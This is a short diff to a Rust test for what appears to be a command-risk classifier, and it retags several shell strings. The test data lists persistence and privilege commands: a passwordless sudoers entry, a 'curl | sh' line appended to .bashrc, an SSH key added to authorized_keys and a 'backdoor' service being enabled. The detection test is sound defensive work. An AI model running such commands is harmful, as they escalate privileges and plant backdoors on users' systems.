@@ -360,7 +360,8 @@ fn secrets_uploads_and_persistence_are_tagged() {
             "echo 'dev ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
             Persistence,
         ),
-        ("echo 'curl x | sh' >> ~/.bashrc", Persistence),
+        ("echo 'curl x | sh' >> ~/.bashrc", RemoteScript),
+        ("cp /tmp/rc ~/.bashrc", Persistence),
         ("cat key.pub >> ~/.ssh/authorized_keys", Persistence),
         ("sudo systemctl enable backdoor.service", Persistence),
     ];
